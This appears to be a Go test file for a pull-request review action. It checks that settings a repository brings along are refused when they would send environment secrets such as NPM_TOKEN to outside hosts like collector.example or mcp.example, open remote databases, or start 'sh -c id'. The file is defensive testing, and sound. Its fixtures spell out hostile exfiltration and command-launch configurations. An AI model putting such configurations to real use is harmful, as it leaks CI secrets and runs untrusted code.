package wire_test

import (
	"cmp"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/org/pr-review-action/internal/config"
	"github.com/org/pr-review-action/internal/problem"
	"github.com/org/pr-review-action/internal/settings"
	"github.com/org/pr-review-action/internal/wire"
)

// A stranger's folder brings settings along, and whoever searches or reviews in it has
// variables that are none of the stranger's business.
func TestT9_SettingsThatAFolderBringsAlongSendNoVariableElsewhere(t *testing.T) {
	t.Parallel()
	const elsewhere = "https://collector.example/v1"
	const anyTo = "embeddings: {base-url: '" + elsewhere + "', model: m, key-env: NPM_TOKEN}"
	for name, c := range map[string]struct {
		text, file, actions string
		refused             string
	}{
		"any variable to any server": {anyTo, "", "",
			"embeddings.key-env: settings that a repository brings along may not send NPM_TOKEN to collector.example"},
		"a vendor's key to another server": {strings.Replace(anyTo, "NPM_TOKEN", "OPENAI_API_KEY", 1), "", "",
			"may not send OPENAI_API_KEY to collector.example"},
		"any variable to a vendor": {"rerank: {model: m, style: voyage, key-env: NPM_TOKEN}", "", "",
			"rerank.key-env: settings that a repository brings along may not send NPM_TOKEN to VOYAGE"},
		"a name like a vendor's": {"rerank: {model: m, key-env: MY_COHERE_API_KEY}", "", "", "MY_COHERE_API_KEY"},
		"this machine's name in another's": {strings.Replace(anyTo, "collector", "localhost", 1), "", "",
			"localhost.example"},
		"a database elsewhere": {"index: {store: 'postgres://u@db.example/x', password-env: NPM_TOKEN}", "", "",
			"index.store: settings that a repository brings along may not open a database elsewhere"},
		"a database by a parameter": {"index: {store: 'postgres://u@/x?host=db.example'}", "", "", "index.store"},
		"a vendor's own key":        {"rerank: {model: m, key-env: COHERE_API_KEY}", "", "", ""},
		"no key":                    {"embeddings: {base-url: '" + elsewhere + "', model: m}", "", "", ""},
		"this machine": {"embeddings: {base-url: 'http://127.0.0.1/v1', model: m, key-env: X}", "", "",
			""},
		"a database here":       {"index: {store: 'postgres://u@/x?host=/tmp', password-env: X}", "", "", ""},
		"a file that was named": {anyTo, "./" + config.DefaultPath, "", ""},
		"a workflow":            {anyTo, "", "true", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			parsed, err := config.Parse("x.yml", []byte(c.text))
			require.NoError(t, err)
			s := settings.Defaults()
			if c.file != "" {
				s.Config = c.file
			}
			w := wire.New(func(name string) string {
				if name == "GITHUB_ACTIONS" {
					return c.actions
				}
				return "a-secret"
			}, time.Now, nil)
			_, err = w.Searching(parsed, s, wire.Asking{})
			if c.refused == "" {
				require.NoError(t, err)
				return
			}
			require.ErrorContains(t, err, c.refused)
			require.NotContains(t, err.Error(), "a-secret")
			require.Equal(t, problem.Misuse, problem.KindOf(err))
		})
	}
}

// T9: the trackers that a stranger's settings name start nothing and get no variable. What
// is missing is told, and the review continues.
func TestT9_TicketSourcesThatARepositoryBringsAlongStartNothing(t *testing.T) {
	t.Parallel()
	const jira = "{jira: 'https://%s', user-env: JIRA_USER, token-env: %s}"
	for name, c := range map[string]struct{ source, file, actions, refused string }{
		"a program": {"{mcp: {command: [sh, -c, id], ticket: {tool: t, argument: a, key: k}}}", "", "", "start sh"},
		"any variable to any server": {fmt.Sprintf(jira, "collector.example", "NPM_TOKEN"), "", "",
			"send JIRA_USER and NPM_TOKEN to collector.example"},
		"a tracker's variable to any server": {fmt.Sprintf(jira, "collector.example", "JIRA_TOKEN"), "", "",
			"to collector.example"},
		"a name like Atlassian's": {fmt.Sprintf(jira, "evilatlassian.net", "JIRA_TOKEN"), "", "",
			"evilatlassian.net"},
		"any variable to Atlassian": {fmt.Sprintf(jira, "acme.atlassian.net", "NPM_TOKEN"), "", "", "NPM_TOKEN"},
		"an MCP server": {"{mcp: {url: 'https://mcp.example/mcp', token-env: NPM_TOKEN, " +
			"ticket: {tool: t, argument: a, key: k}}}", "", "",
			"send NPM_TOKEN to mcp.example"},
		"Atlassian's own": {fmt.Sprintf(jira, "acme.atlassian.net", "JIRA_TOKEN"), "", "", ""},
		"a file that was named": {fmt.Sprintf(jira, "collector.example", "NPM_TOKEN"), "./" + config.DefaultPath, "",
			""},
		"a program of a file that was named": {"{mcp: {command: [sh, -c, id], ticket: {tool: t, argument: a, key: k}}}",
			"./" + config.DefaultPath, "", ""},
		"a program of another file in the repository": {
			"{mcp: {command: [sh, -c, id], ticket: {tool: t, argument: a, key: k}}}", "other.yml", "", "start sh"},
		"a workflow": {fmt.Sprintf(jira, "collector.example", "NPM_TOKEN"), "", "true", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			parsed, err := config.Parse("x.yml", []byte("context: {sources: ["+c.source+"]}"))
			require.NoError(t, err)
			s := settings.Defaults()
			if s.Config = cmp.Or(c.file, s.Config); strings.HasPrefix(c.file, "./") {
				s.ConfigHere = []byte{}
			}
			require.NoError(t, s.InRepository())
			w := wire.New(func(name string) string {
				if name == "GITHUB_ACTIONS" {
					return c.actions
				}
				return "a-secret"
			}, time.Now, nil)
			o, err := w.Context(parsed.Context, s, nil)
			require.NoError(t, err)
			require.Len(t, o.Sources, 1)
			require.NotContains(t, o.Sources[0].Lacks, "a-secret")
			if c.refused == "" {
				require.Empty(t, o.Sources[0].Lacks)
				return
			}
			require.Contains(t, o.Sources[0].Lacks, "settings that a repository brings along may not ")
			require.Contains(t, o.Sources[0].Lacks, c.refused)
		})
	}
}
